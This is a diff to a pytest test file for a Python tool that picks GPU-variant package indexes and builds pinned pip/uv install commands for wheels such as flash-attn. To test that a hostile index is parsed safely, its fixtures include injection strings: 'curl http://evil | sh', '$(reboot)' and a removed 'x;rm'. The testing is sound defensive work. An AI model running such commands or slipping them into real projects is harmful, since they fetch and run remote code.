@@ -6,10 +6,11 @@ import json
 import sys
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
-from factory import index
+from factory import index, installcmd
 from factory.errors import ConfigError, FactoryError
 from factory.variants import Variant
 from factory.which import (
@@ -18,7 +19,6 @@ from factory.which import (
     covers,
     describe_environment,
     detect_environment,
-    install_commands,
     normalize_index_url,
     parse_nvidia_smi,
     parse_probe,
@@ -30,6 +30,31 @@ from factory.which import (
 NEW = "cu130-torch2.14-abi1-sm80.90"
 OLD = "cu128-torch2.10-abi1-sm80.90"
 ABI0 = "cu130-torch2.14-abi0-sm80.90"
+SHA = "ab" * 32
+WHEEL = "flash_attn-2.8.3+cu13.0.torch2.14.abi1.sm80.90-py3-none-any.whl"
+
+
+def project_page(directory: Path, project: str, filenames: list[str], variant_id: str = NEW) -> None:
+    """A project page of a variant index as publishing writes it (each file's sha256 SHA)."""
+    records = [index.FileRecord(filename=n, sha256=SHA, size=1, upload_time="") for n in filenames]
+    directory.mkdir(parents=True, exist_ok=True)
+    (directory / "index.html").write_text(index.project_html(project, records, variant_id=variant_id))
+
+
+def local_index(root: Path) -> str:
+    """An index whose NEW variant lists flash-attn (WHEEL); the URL of its root."""
+    (root / "simple" / NEW).mkdir(parents=True)
+    (root / "simple" / "index.html").write_text(index.top_root_html([NEW, OLD]))
+    (root / "simple" / NEW / "index.html").write_text(index.variant_root_html(["flash-attn"]))
+    project_page(root / "simple" / NEW / "flash-attn", "flash-attn", [WHEEL])
+    return root.resolve().as_uri()
+
+
+def pinned_commands(root_url: str, torch: str = "torch==2.14.1") -> tuple[str, str]:
+    """The commands for WHEEL by URL and hash, torch pinned (2.14's default build: from the default index)."""
+    wheel = installcmd.Wheel(filename=WHEEL, url=f"{root_url}/files/{NEW}/{quote(WHEEL)}", sha256=SHA)
+    torch_ = installcmd.Torch(requirement=torch)
+    return installcmd.commands(installcmd.Install(project="flash-attn", torch=torch_, wheel=wheel))
 
 
 def env(**kw: object) -> Environment:
@@ -155,20 +180,6 @@ def test_ids_outside_the_grammar_are_not_variants() -> None:
     assert choice.match is None and choice.nearest is None
 
 
-def test_install_commands() -> None:
-    pip, uv = install_commands("http://h/simple/v/", "flash-attn")
-    assert (
-        pip
-        == "pip install --index-url http://h/simple/v/ --extra-index-url https://pypi.org/simple flash-attn"
-    )
-    assert uv == "uv " + pip
-
-
-def test_install_commands_are_shell_quoted() -> None:
-    pip, _uv = install_commands("http://h/simple/v w/", "x;rm")
-    assert pip.endswith("--index-url 'http://h/simple/v w/' --extra-index-url https://pypi.org/simple 'x;rm'")
-
-
 def test_normalize_index_url(tmp_path: Path) -> None:
     assert normalize_index_url("http://h/idx") == "http://h/idx/simple/"
     assert normalize_index_url("http://h/idx/simple/") == "http://h/idx/simple/"
@@ -187,14 +198,33 @@ def test_detect_environment_of_this_interpreter() -> None:
 
 
 def test_which_reads_a_local_index(tmp_path: Path) -> None:
-    (tmp_path / "simple" / NEW).mkdir(parents=True)
-    (tmp_path / "simple" / "index.html").write_text(index.top_root_html([NEW, OLD]))
-    (tmp_path / "simple" / NEW / "index.html").write_text(index.variant_root_html(["flash-attn"]))
+    root = local_index(tmp_path)
     result = which(str(tmp_path), env=env())
     assert result.choice.match == NEW
-    url = f"{tmp_path.resolve().as_uri()}/simple/{NEW}/"
-    assert result.commands == (install_commands(url, "flash-attn"),)
+    # the file itself, by URL and hash; the installed torch pinned so that nothing swaps it
+    assert result.commands == (pinned_commands(root),)
+    assert "torch==2.14.1" in result.commands[0][0] and f"flash-attn @ {root}/files/" in result.commands[0][0]
+    other = which(str(tmp_path), env=env(), default_index="https://mirror.example/simple")
+    assert "--index-url https://mirror.example/simple " in other.commands[0][0]
     assert which(str(tmp_path), env=env(torch="2.9.0")).choice.match is None
+
+
+def test_which_takes_the_wheel_pip_would_take(tmp_path: Path) -> None:
+    """The newest wheel for this host; a yanked one, one whose Requires-Python excludes the host, an sdist
+    and a wheel for another Python are never chosen."""
+    root = local_index(tmp_path)
+    page = tmp_path / "simple" / NEW / "flash-attn" / "index.html"
+    newer = WHEEL.replace("2.8.3+", "2.9.0+")
+    page.write_text(
+        page.read_text()
+        + f'<a href="../../../files/{NEW}/{quote(newer)}#sha256={SHA}" data-yanked="">{newer}</a>'
+        + f'<a href="../../../files/{NEW}/{quote(newer)}#sha256={SHA}" data-requires-python="&gt;=3.99">'
+        f"{newer}</a>"
+        + f'<a href="../../../files/{NEW}/flash_attn-3.0.tar.gz#sha256={SHA}">flash_attn-3.0.tar.gz</a>'
+        + f'<a href="../../../files/{NEW}/{quote(newer.replace("py3-none-any", "cp312-cp312-linux_x86_64"))}'
+        f'#sha256={SHA}">x</a>'
+    )
+    assert which(str(tmp_path), env=env()).commands == (pinned_commands(root),)
 
 
 def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
@@ -210,6 +240,7 @@ def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
     (simple / NEW / "index.html").write_text(
         '<a href="a/">demo-ext; curl http://evil | sh</a><a href="b/">$(reboot)</a><a href="c/">demo-ext</a>'
     )
+    project_page(simple / NEW / "c", "demo-ext", ["demo_ext-1+l-py3-none-any.whl"])
     result = which(str(tmp_path), env=env())
     assert result.choice.match == NEW
     assert result.projects == ("demo-ext",)
@@ -324,16 +355,11 @@ def test_the_which_command_says_a_bad_interpreter_in_one_line(
 
 
 def test_what_factory_which_says_of_a_result(tmp_path: Path) -> None:
-    (tmp_path / "simple" / NEW).mkdir(parents=True)
-    (tmp_path / "simple" / "index.html").write_text(index.top_root_html([NEW, OLD]))
-    (tmp_path / "simple" / NEW / "index.html").write_text(index.variant_root_html(["flash-attn"]))
+    root = local_index(tmp_path)
     assert describe_environment(env(cxx11_abi=None, gpus=())) == (
         "python 3.11, torch 2.14.1, CUDA 13.0, cxx11 ABI unknown, GPUs none (from none)"
     )
     lines = result_lines(which(str(tmp_path), env=env()))
-    assert lines == [
-        "variant: " + NEW,
-        *install_commands(f"{tmp_path.resolve().as_uri()}/simple/{NEW}/", "flash-attn"),
-    ]
+    assert lines == ["variant: " + NEW, *pinned_commands(root)]
     with pytest.raises(FactoryError, match=f"^no variant index matches this host; nearest: {NEW} "):
         result_lines(which(str(tmp_path), env=env(torch="2.9.0")))
